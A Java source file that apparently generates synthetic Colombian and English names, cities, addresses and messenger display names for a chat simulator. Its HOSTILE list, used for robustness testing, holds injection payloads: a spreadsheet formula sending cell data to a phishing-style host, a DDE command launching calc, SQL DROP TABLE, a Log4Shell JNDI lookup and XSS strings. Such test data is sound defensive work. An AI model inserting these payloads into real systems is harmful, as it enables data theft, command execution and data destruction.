package com.b2chatsimulator;

import java.text.Normalizer;
import java.util.List;
import java.util.Locale;

/** What people, places and streets of the world are called. */
final class Names {

  private static final List<String> GIVEN =
      List.of(
          "Carlos",
          "María",
          "Luis",
          "Ana",
          "Juan",
          "Sofía",
          "Andrés",
          "Laura",
          "Jorge",
          "Paula",
          "Diego",
          "Marcela",
          "Felipe",
          "Catalina",
          "Óscar",
          "Adriana",
          "Wilson",
          "Yuliana",
          "Édgar",
          "Ximena",
          "Hernán",
          "Liliana",
          "Iván",
          "Gloria",
          "Ramiro",
          "Yolanda",
          "Freddy",
          "Milena",
          "Álvaro",
          "Nancy",
          "Gustavo",
          "Verónica",
          "Cristian",
          "Leidy",
          "Mauricio",
          "Sandra",
          "Nelson",
          "Tatiana",
          "Jairo",
          "Constanza",
          "Brayan",
          "Alejandra",
          "Germán",
          "Rocío",
          "Fabián",
          "Ingrid",
          "Hugo",
          "Martha",
          "Samuel",
          "Isabella",
          "Tomás",
          "Salomé",
          "Emilio",
          "Antonia",
          "Rosalba",
          "Efraín",
          "Esperanza",
          "Ñuflo",
          "Jesús",
          "Concepción");
  private static final List<String> FAMILY =
      List.of(
          "Gómez",
          "Rodríguez",
          "Martínez",
          "López",
          "Hernández",
          "Castaño",
          "Ramírez",
          "Vargas",
          "Moreno",
          "Muñoz",
          "Restrepo",
          "Giraldo",
          "Zuluaga",
          "Cifuentes",
          "Peña",
          "Ortiz",
          "Suárez",
          "Castro",
          "Rincón",
          "Patiño",
          "Acevedo",
          "Cárdenas",
          "Londoño",
          "Ibáñez",
          "Quiñones",
          "Arango",
          "Beltrán",
          "Duque",
          "Escobar",
          "Figueroa",
          "Guzmán",
          "Hoyos",
          "Jaramillo",
          "Lemos",
          "Mejía",
          "Navarro",
          "Ordóñez",
          "Pardo",
          "Roldán",
          "Sierra",
          "Tabares",
          "Uribe",
          "Velásquez",
          "Yepes",
          "Zamora",
          "Bermúdez",
          "Chaparro",
          "Agudelo");
  private static final List<String> ENGLISH =
      List.of(
          "Emma Walsh",
          "Liam Carter",
          "Olivia Bennett",
          "Noah Fletcher",
          "Grace O'Neill",
          "Ethan Brooks",
          "Chloe Parsons",
          "Mason Reed",
          "Hannah Cole",
          "Lucas Meyer",
          "Priya Raman",
          "Zoe Anderson",
          "Dylan Foster",
          "Megan Price",
          "Aaron Whitfield",
          "Naomi Clarke",
          "Peter Lindqvist",
          "Julia Hoffmann",
          "Sam Okafor",
          "Kate Sullivan");
  private static final List<String> CITIES =
      List.of(
          "Bogotá",
          "Medellín",
          "Cali",
          "Barranquilla",
          "Bucaramanga",
          "Pereira",
          "Manizales",
          "Cartagena",
          "Ibagué",
          "Villavicencio",
          "Cúcuta",
          "Armenia",
          "Neiva",
          "Pasto",
          "Santa Marta",
          "Envigado",
          "Soacha",
          "Chía",
          "Popayán",
          "Tunja");
  private static final List<String> STREETS =
      List.of("Calle", "Carrera", "Diagonal", "Transversal");
  private static final List<String> PLACES =
      List.of(
          "apto 502",
          "casa 14",
          "torre 3 apto 201",
          "local 2",
          "barrio Laureles",
          "piso 2",
          "conjunto Los Cerezos, casa 31",
          "oficina 804",
          "barrio El Prado",
          "interior 6");
  private static final List<String> COLOURED =
      List.of("%s 🌻", "✨%s✨", "%s 🦁", "Mamá de %s", "%s Ventas", "Taller %s", "%s ❤️", "Don %s");

  /** Names that break whoever trusts them: formulas, markup, reversed text, too long, blank. */
  private static final List<String> HOSTILE =
      List.of(
          "=HYPERLINK(\"http://phish.example/?x=\"&A1,\"Ver factura\")",
          "<script>alert('hola')</script>",
          "\u202Eocsicnarf\u202C \u05D3\u05D5\u05D3",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "'; DROP TABLE chats; --",
          "مريم الخوري",
          "   ",
          "李小龍",
          "${jndi:ldap://x.example/a}",
          "\"><img src=x onerror=alert(1)>",
          "A̷n̷d̷r̷é̷s̷ ".repeat(12),
          "+57 300 000 00 00, -1+1");

  private Names() {}

  static String full(Dice dice, boolean english) {
    if (english) {
      return dice.pick(ENGLISH);
    }
    String name = dice.pick(GIVEN) + " " + dice.pick(FAMILY);
    return dice.chance(0.45) ? name + " " + dice.pick(FAMILY) : name;
  }

  /** What a messenger shows for somebody who was never entered by hand. */
  static String push(Dice dice, String full, String digits) {
    double kind = dice.unit();
    if (kind < 0.006) {
      return dice.pick(HOSTILE);
    }
    String given = full.substring(0, full.indexOf(' '));
    if (kind < 0.34 && !digits.isEmpty()) {
      return digits;
    }
    if (kind < 0.46) {
      return dice.pick(COLOURED).formatted(given);
    }
    if (kind < 0.60) {
      return full.toLowerCase(Locale.ROOT);
    }
    if (kind < 0.72) {
      return given;
    }
    return kind < 0.76 ? full + "  " : full;
  }

  static String city(Dice dice) {
    return dice.pick(CITIES);
  }

  static String address(Dice dice) {
    return dice.pick(STREETS)
        + " "
        + dice.between(3, 170)
        + (dice.chance(0.3) ? "B" : "")
        + " # "
        + dice.between(1, 99)
        + "-"
        + dice.between(10, 99)
        + ", "
        + dice.pick(PLACES);
  }

  /** Letters a to z and digits of a name, for an e-mail address. */
  static String plain(String name) {
    String folded = Normalizer.normalize(name, Normalizer.Form.NFD);
    StringBuilder plain = new StringBuilder();
    for (char each : folded.toLowerCase(Locale.ROOT).toCharArray()) {
      if (each == ' ') {
        plain.append('.');
      } else if (each >= 'a' && each <= 'z') {
        plain.append(each);
      }
    }
    return plain.toString();
  }
}
